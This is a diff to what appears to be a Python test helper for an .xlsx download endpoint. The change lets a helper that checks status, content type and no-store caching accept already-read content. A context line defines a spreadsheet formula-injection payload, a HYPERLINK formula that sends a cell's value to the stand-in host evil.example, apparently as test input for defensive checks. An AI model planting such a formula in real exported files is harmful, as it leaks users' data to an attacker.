@@ -14,12 +14,13 @@ from ntm.core.text import fold
 FORMULA = '=HYPERLINK("http://evil.example/?d="&F2,"x")'
 
 
-def workbook_of(response):
-    """The downloaded workbook (an .xlsx answer that no cache keeps)."""
+def workbook_of(response, content=None):
+    """The downloaded workbook (an .xlsx answer that no cache keeps); a
+    streamed answer's ``content`` when it was read already."""
     assert response.status_code == 200
     assert response["Content-Type"] == XLSX
     assert response["Cache-Control"] == "no-store"
-    return load_workbook(io.BytesIO(content_of(response)))
+    return load_workbook(io.BytesIO(content or content_of(response)))
 
 
 def content_of(response):
